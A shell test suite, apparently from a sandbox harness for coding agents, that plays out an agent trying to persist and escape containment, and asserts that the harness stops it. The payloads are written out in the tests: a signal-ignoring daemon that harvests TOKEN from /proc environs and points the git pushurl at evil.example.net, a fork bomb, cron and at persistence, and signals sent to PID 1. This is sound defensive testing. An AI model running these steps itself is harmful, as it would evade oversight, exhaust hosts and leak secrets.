#!/bin/sh
# The hostile suite, C: an agent that stays behind, races, or does not die (threats-entry C).
# rows: C1 C2 C3 C4 C5 C6 C7 C8
. "$(dirname "$0")/lib.sh"
in_ns "$@"
. "$ROOT/t/entry/lib.sh"

internet_start
loot_start

# Until it dies: sets what would run the canary, changes the files under the scan, looks for the token.
alive='trap "" TERM HUP INT; cd /work/repo; while :; do git config core.fsmonitor /loot/canary
	git config remote.origin.pushurl https://evil.example.net/; cp /loot/canary x; echo x >x
	echo "$(cat /proc/[0-9]*/environ | tr "\0" "\n" | grep -c TOKEN)" >>/loot/$MARK
	if [ -e /loot/trusted ]; then touch /loot/FAIL.$MARK; fi; done'
shipped_is_scanned()
{
	is "$(ref demo/private "refs/heads/agent/sh/$RUN")" "$(field tip)" "$1: what was pushed is what was scanned"
}
hostile 'C1: a daemon that waits for the token, and changes settings and files under the scan' 0 \
	"echo x >y; MARK=c1 setsid sh -c '$alive' >/dev/null 2>&1 & until [ -s /loot/c1 ]; do sleep 0.1; done"
shipped_is_scanned C1
ok 'C1: control: it did run' test -s loot/c1
hostile 'C2: double forks, stopped processes, a subreaper, ignored signals' 0 \
	"echo x >x; (MARK=c2 setsid sh -c '$alive' & (sleep 1000 & kill -STOP \$!) & (trap '' TERM; exec sleep 1000) &) >/dev/null 2>&1
	python3 -c 'import ctypes, os, subprocess
ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
for i in range(50):
    if os.fork() == 0:
        os.setsid()
        os.execlp(\"sleep\", \"sleep\", \"1000\")
' & until [ -s /loot/c2 ]; do sleep 0.1; done"
# Processes up to a limit of their own, that fork whenever one can; then threads, which cost little, up to
# the limit that there is. The shell can start nothing any more when it ends.
hostile 'C2: a fork bomb up to the limit' 0 'echo x >x; mkfifo /tmp/full; python3 -c "import os, resource, time
resource.setrlimit(resource.RLIMIT_NPROC, (300, 300))
while True:
    try:
        os.fork()
    except OSError:
        open(\"/loot/c2bomb\", \"w\").close()
        time.sleep(0.2)
" >/dev/null 2>&1 &
	until [ -e /loot/c2bomb ]; do sleep 0.1; done; python3 -c "import os, threading, time
threading.stack_size(65536)
n = 0
try:
    while n < 20000:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        n += 1
except RuntimeError:
    open(\"/loot/c2threads\", \"w\").write(str(n))
open(\"/tmp/full\", \"w\").write(\"full\\n\")
time.sleep(1000)" >/dev/null 2>&1 &
	read full </tmp/full'
ok 'C2: control: the limit was met, and is one of thousands' test "$(cat loot/c2threads)" -gt 1000 -a "$(cat loot/c2threads)" -lt 5000
hostile 'C3: the port of the proxy, terminals, at and cron' 0 \
	'python3 -c "import os, socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
try:
    s.bind((\"127.0.0.1\", 3128)); s.listen(); open(\"/loot/FAIL.bound\", \"w\")
except OSError as e:
    open(\"/loot/c3\", \"w\").write(str(e))
for name in (\"/dev/tty\", \"/dev/console\", \"/proc/1/fd/0\", \"/proc/1/fd/2\"):
    try:
        os.write(os.open(name, os.O_RDWR | os.O_NOCTTY), b\"/loot/canary\n\"); open(\"/loot/FAIL.tty\", \"w\")
    except OSError:
        pass"; ls /dev/pts >/loot/c3pts; echo x >x
	for d in /var/spool/cron /var/spool/cron/crontabs /var/spool/at /etc/cron.d; do
		mkdir -p $d && echo "* * * * * agent /loot/canary" >$d/agent && echo $d; done >/loot/c3cron 2>/dev/null
	echo /loot/canary | at now; echo "* * * * * /loot/canary" | crontab -; cat /proc/[0-9]*/comm >/loot/c3comm'
like loot/c3 'already in use' 'C3: the port is taken'
is "$(cat loot/c3pts) $(cat loot/c3cron)" 'ptmx ' 'C3: there is no terminal to write to, and no spool'
unlike loot/c3comm '^(cron|crond|atd|systemd|dbus-daemon)$' 'C3: and nobody who would look into one'
hostile 'C4: files that change while they are added' 0 \
	'mkfifo fifo; echo clean >x; (while :; do echo $$ >>y; mv y z; cp /loot/canary y; rm -f z fifo; mkfifo fifo; done) >/dev/null 2>&1 & true'
shipped_is_scanned C4
is "$(git -C "$NET/git/demo/private.git" show "agent/sh/$RUN:x")" clean 'C4: and holds the rest'
hostile 'C5: kill -STOP, -KILL and -TERM of process 1 and its parent' 0 \
	'for s in STOP KILL TERM INT HUP QUIT SEGV ABRT; do kill -$s 1; kill -$s $PPID; done 2>/dev/null; sleep 0.2; echo x >x'
is "$(field outcome)" shipped 'C5: the run goes on'
# rows: G8 G9
hostile 'G8: prlimit, chrt, taskset, renice, ionice and setpriority on process 1' 0 \
	'{ prlimit --pid 1 --cpu=1:1; prlimit --pid 1 --fsize=1; chrt -i -p 0 1; taskset -p 1 1; renice 19 1; renice 19 -g 1
	renice 19 -u agent; ionice -c 3 -p 1; python3 -c "import os; os.pidfd_open(1)"; } >/loot/g8 2>&1; echo x >x
	sh -c "prlimit --pid \$\$ --cpu=100:100 && chrt -i -p 0 \$\$ && taskset -p 1 \$\$ && renice 19 \$\$" >/dev/null && touch /loot/g8own
	python3 -c "import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
sys.exit(9 if libc.syscall(302, 0x100000001, 0, 0, 0) == 0 else 0)"'
is "$(grep -ciE 'not permitted|denied' loot/g8)" 9 'G8: every one of them is refused'
ok 'G8: control: on a process of its own they are not' test -e loot/g8own
hostile 'G9: signals from inside do not stop a run, by kill or by a descriptor of /proc/1' 0 'kill -TERM 1; kill -INT 1
	python3 -c "import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open(\"/proc/1\", os.O_RDONLY | os.O_DIRECTORY)
open(\"/loot/g9\", \"w\").write(str(libc.syscall(424, fd, 15, None, 0)))"; sleep 0.5; echo x >x'
is "$(cat loot/g9)" 0 'G9: control: the second kind did arrive'
# In C, since a fork that copies an interpreter ten thousand times is a test of the kernel.
cat >zombies.c <<'END'
#include <stdio.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void)
{
	int made = 0, status, i, j;

	for (i = 0; i < 40; i++) {
		pid_t p = fork();
		if (p == 0) {
			for (j = 0; j < 250; j++) {
				pid_t q = vfork();
				if (q == 0)
					_exit(0);
				if (q < 0)
					_exit(j);
			}
			_exit(j);
		}
		if (waitpid(p, &status, 0) == p)
			made += WEXITSTATUS(status);
	}
	printf("%d\n", made);
	return 0;
}
END
ok 'C6: a program that leaves zombies is made' cc -o loot/zombies zombies.c
hostile 'C6: 10,000 zombies, 250 at a time' 0 'count() { ls -d /proc/[0-9]* | wc -l; }; count >/loot/c6before
	/loot/zombies >/loot/c6
	i=0; until [ $(count) -le $(cat /loot/c6before) ] || [ $i -gt 600 ]; do i=$((i + 1)); sleep 0.1; done
	count >/loot/c6after; echo x >x'
is "$(cat loot/c6)" 10000 'C6: control: there were that many'
is "$(cat loot/c6after)" "$(cat loot/c6before)" 'C6: all of them are reaped'
hostile 'C7: an agent that ignores SIGTERM when its time is over' 124 \
	'trap "" TERM; echo x >x; while :; do sleep 1; done' --env AGENT_TIMEOUT=3
is "$(field limit) $(field salvage)" 'time branch' 'C7: the work is in the salvage branch'
hostile 'C7: the same when the engine stops it, as docker stop does' 143 \
	'trap "" TERM INT HUP; echo x >x; while :; do sleep 1; done' --signal-on agent:15
is "$(field agent_exit) $(field salvage)" '137 branch' 'C7: TERM, a grace, KILL; and the work is kept'
hostile 'C8: ended by a signal: detached, in the middle of a rebase, with locks' 1 \
	'git checkout -q --detach; git commit -q --allow-empty -m x; echo 1 >r; git add r; git commit -qm r1
	git branch o; git reset -q --hard HEAD~; echo 2 >r; git add r; git commit -qm r2; git rebase -q o >/dev/null 2>&1
	touch .git/index.lock .git/HEAD.lock; test -d .git/rebase-merge && echo x >x; kill -SEGV $$'
is "$(field agent_exit) $(field salvage)" '139 branch' 'C8: the code is told, the work is kept'
is "$(git -C "$NET/git/demo/private.git" show "agent/salvage/$RUN:x")" x 'C8: all of it'
hostile 'C8: ended by a signal, without changes' 1 'kill -KILL $$'
is "$(field agent_exit) $(field outcome)" '137 failed' 'C8: the code is told'
done_testing
